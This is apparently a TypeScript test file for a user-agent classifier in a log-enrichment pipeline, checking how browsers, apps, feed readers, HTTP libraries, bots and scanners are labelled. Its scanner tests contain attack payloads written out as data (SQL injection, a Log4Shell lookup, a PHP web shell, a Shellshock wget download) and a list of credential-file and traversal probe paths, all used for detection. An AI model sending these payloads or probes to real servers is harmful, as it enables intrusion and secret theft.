import t from 'tap';
import { isProbePath } from '../../../src/enrich/client-class.js';
import { PipelineSchema } from '../../../src/pipeline/config.js';
import { classifyUserAgent, UserAgentClassifier } from '../../../src/enrich/useragent.js';

const classOf = (ua: string) => classifyUserAgent(ua).clientClass;

t.test('browsers: named by ua-parser-js, or shaped like one (engine tokens, feature phones, text browsers)', async (t) => {
  t.equal(classOf('Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36'), 'browser');
  t.equal(classOf('Opera/9.80 (X11; Linux x86_64) Presto/2.12.388 Version/12.16'), 'browser');
  t.equal(classOf('Nokia6120c/3.83; Profile/MIDP-2.0 Configuration/CLDC-1.1'), 'browser', "a feature phone's browser");
  t.equal(classOf('ELinks (0.4.3; NetBSD 3.0.2_PATCH sparc64; 141x19)'), 'browser', 'a text browser');
  t.equal(classOf('Mozilla/5.0 (Linux; Android 10; V2024A; wv) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/62.0.3202.84 Mobile Safari/537.36 VivoBrowser/8.4.12.0'),
    'browser', 'a browser built on the WebView names itself');
});

t.test('apps: in-app browsers, WebViews, apps naming themselves, media players and mail clients', async (t) => {
  t.equal(classOf('Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/442.0.0.41.118;FBBV/540125455]'), 'app');
  t.equal(classOf('Mozilla/5.0 (Linux; Android 13; Pixel 7 Build/TQ3A.230805.001; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/116.0.5845.163 Mobile Safari/537.36'), 'app', 'Android WebView');
  t.equal(classOf('Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148'), 'app', 'iOS WebView');
  t.equal(classOf('Podwise/3.1 CFNetwork/1410.0.3 Darwin/22.6.0'), 'app');
  t.equal(classOf('Dalvik/2.1.0 (Linux; U; Android 12; SM-A125F Build/SP1A.210812.016)'), 'app', "an Android app's default agent");
  t.equal(classOf('mpv 0.29.1'), 'app', 'a media player isbot takes for a script');
  t.equal(classOf('Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.10827; Pro)'), 'app', 'a mail client');
  t.same(classifyUserAgent('Wavecatcher/2.4 (iOS; 17.2; Mobile)'), {
    browser: 'Wavecatcher', browserVersion: '', os: 'iOS', osVersion: '', deviceType: 'mobile', clientClass: 'app', isBot: false, botName: '', isPerson: true,
  });
});

t.test('feed readers: a subscriber count, feeds or RSS in the agent, or a reader known by name', async (t) => {
  t.same(classifyUserAgent('Feedly/1.0 (+http://www.feedly.com/fetcher.html; 152 subscribers; like FeedFetcher-Google)'), {
    browser: 'Feedly', browserVersion: '', os: '', osVersion: '', deviceType: 'other', clientClass: 'feed_reader', isBot: false, botName: '', isPerson: false,
  }, 'was a bot named FeedFetcher-Google');
  t.match(classifyUserAgent('Reeder/3.2 CFNetwork/672.1.12 Darwin/14.0.0'), { clientClass: 'feed_reader', browser: 'Reeder', deviceType: 'mobile', isPerson: false },
    'was a person on a phone');
  t.match(classifyUserAgent('Tiny Tiny RSS/23.04 (https://tt-rss.org/)'), { clientClass: 'feed_reader', browser: 'Tiny Tiny RSS' });
  t.match(classifyUserAgent('Mozilla/5.0 (compatible; inoreader.com; 3 subscribers)'), { clientClass: 'feed_reader', browser: 'inoreader.com' });
  t.match(classifyUserAgent('SimplePie/1.8.0 (Feed Parser; http://simplepie.org; Allow like Gecko) Build/20230227'), { clientClass: 'feed_reader', browser: 'SimplePie' });
  t.match(classifyUserAgent('Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.21 (KHTML, like Gecko) akregator/4.11.5 Safari/537.21'),
    { clientClass: 'feed_reader', browser: 'akregator' }, 'named by its own product, not the browser it imitates');
  t.equal(classOf('Heurekabot-Feed/1.0 (+https://sluzby.heureka.cz/napoveda/heurekabot/)'), 'bot', "a shop's product-feed crawler calls itself a bot");
  t.equal(classOf('FeedValidator/1.3'), 'bot', 'a validator');
  t.not(classOf('IrssiUrlLog/0.2'), 'feed_reader', 'rss inside another word');
});

t.test('libraries: HTTP clients, runtimes, command-line tools and package managers, named by their product', async (t) => {
  const library = (ua: string, name: string) => t.match(classifyUserAgent(ua), { clientClass: 'library', browser: name, isBot: false, botName: '', isPerson: false }, ua);
  library('okhttp/4.9.0', 'okhttp');
  library('Java/1.8.0_121', 'Java');
  library('Apache-HttpClient/4.5.13 (Java/11.0.18)', 'Apache-HttpClient');
  library('curl/8.4.0', 'curl');
  library('python-requests/2.31.0', 'python-requests');
  library('Go-http-client/2.0', 'Go-http-client');
  library('Debian APT-HTTP/1.3 (2.6.1)', 'Debian APT-HTTP');
  library('Chef Client/18.2.7 (ruby-3.1.2-p20; ohai-18.1.3; x86_64-linux; +https://chef.io)', 'Chef Client');
  library('Jakarta Commons-HttpClient/3.1', 'Jakarta Commons-HttpClient');
  library('libcurl-agent/1.0', 'libcurl-agent');
  t.match(classifyUserAgent('Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.2506'), { clientClass: 'library', browser: 'WindowsPowerShell' },
    'a command-line tool behind Mozilla/5.0');
  t.equal(classOf('python-requests/2.31.0 (compatible; ExampleBot/1.0)'), 'bot', 'a library naming itself a bot is a bot');
  t.equal(classOf('http.rb/5.1.1 (Mastodon/4.2.1; +https://mastodon.example/)'), 'bot', 'a service built on a library, documented like a bot');
});

t.test('bots: crawlers and monitors; scanners and attack probes named as scanners', async (t) => {
  t.match(classifyUserAgent('Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)'), { clientClass: 'bot', botName: 'bingbot', deviceType: 'bot' });
  t.match(classifyUserAgent('Mozilla/5.0 zgrab/0.x'), { clientClass: 'bot', botName: 'zgrab' });
  t.match(classifyUserAgent('Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)'), { clientClass: 'bot', botName: 'Nmap Scripting Engine' });
  const probe = (ua: string) => t.match(classifyUserAgent(ua), { clientClass: 'bot', isBot: true, botName: 'scanner', isPerson: false }, ua);
  probe("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36' AND 1=1 UNION SELECT NULL--");
  probe(`$\{jndi:ldap://203.0.113.9:1389/a}`); // a Log4Shell lookup
  probe('<?php system($_GET["c"]); ?>');
  probe('() { :; }; /bin/bash -c "wget http://198.51.100.7/x"');
  probe('Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 sleep(5)#');
});

t.test('unknown: agents that name nothing', async (t) => {
  t.equal(classOf('Mozilla/5.0 (X11; Linux x86_64)'), 'unknown', 'a browser agent cut short');
  t.equal(classOf("'Mozilla/5.0"), 'unknown');
  t.equal(classOf('&as_qdr=all'), 'unknown');
});

t.test('probe paths: secrets, version control, traversal and injection in the path', async (t) => {
  for (const path of ['/.env', '/app/.env.local', '/.git/config', '/.aws/credentials', '/static/../../etc/passwd', '/%2e%2e/%2e%2e/x',
    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', `/search/$\{jndi:ldap://x}`]) t.equal(isProbePath(path), true, path);
  for (const path of ['/', '/.well-known/security.txt', '/env', '/docs/.envelope', '/wp-login.php', '/blog/git-tips']) t.equal(isProbePath(path), false, path);
});

t.test('a request for a probe path is a scanner whatever its agent; a bot keeps its own name', async (t) => {
  const agents = new UserAgentClassifier(10);
  const chrome = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36';
  t.match(agents.classifyRequest(chrome, '/'), { clientClass: 'browser', isPerson: true });
  t.match(agents.classifyRequest(chrome, '/.env'), { clientClass: 'bot', isBot: true, botName: 'scanner', deviceType: 'bot', isPerson: false, browser: 'Chrome' });
  t.match(agents.classifyRequest('python-requests/2.28.1', '/.git/config'), { clientClass: 'bot', botName: 'scanner' });
  t.match(agents.classifyRequest('', '/.env'), { clientClass: 'bot', botName: 'scanner' }, 'no agent');
  t.match(agents.classifyRequest(null, '/.env'), { clientClass: 'bot', botName: 'scanner', isPerson: false }, 'a format without agents');
  t.match(agents.classifyRequest('Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', '/a/../../b'), { botName: 'Googlebot' });
  t.match(agents.classify(chrome), { clientClass: 'browser' }, 'the cached answer for the agent is unchanged');
});

t.test('enrich.people: which classes count as people, browser and app by default', async (t) => {
  t.same(PipelineSchema.parse({}).enrich.people, ['browser', 'app']);
  const withFeeds = new UserAgentClassifier(10, PipelineSchema.parse({ enrich: { people: ['browser', 'app', 'feed_reader'] } }).enrich.people);
  t.match(withFeeds.classify('Reeder/3.2 CFNetwork/672.1.12 Darwin/14.0.0'), { clientClass: 'feed_reader', isPerson: true });
  t.match(withFeeds.classify('curl/8.4.0'), { clientClass: 'library', isPerson: false });
  const browsersOnly = new UserAgentClassifier(10, ['browser']);
  t.match(browsersOnly.classify('Dalvik/2.1.0 (Linux; U; Android 12; SM-A125F Build/SP1A.210812.016)'), { clientClass: 'app', isPerson: false });
  const issues = (people: unknown) => {
    const result = PipelineSchema.safeParse({ enrich: { people } });
    return result.success ? [] : result.error.issues.map((issue) => `${issue.path.join('.')}: ${issue.message}`);
  };
  t.same(issues([]), ['enrich.people: name at least one class, such as browser']);
  t.same(issues(['browser', 'browser']), ['enrich.people: a class is named twice']);
  t.match(issues(['robot']), [/^enrich\.people\.0: Invalid option/]);
});
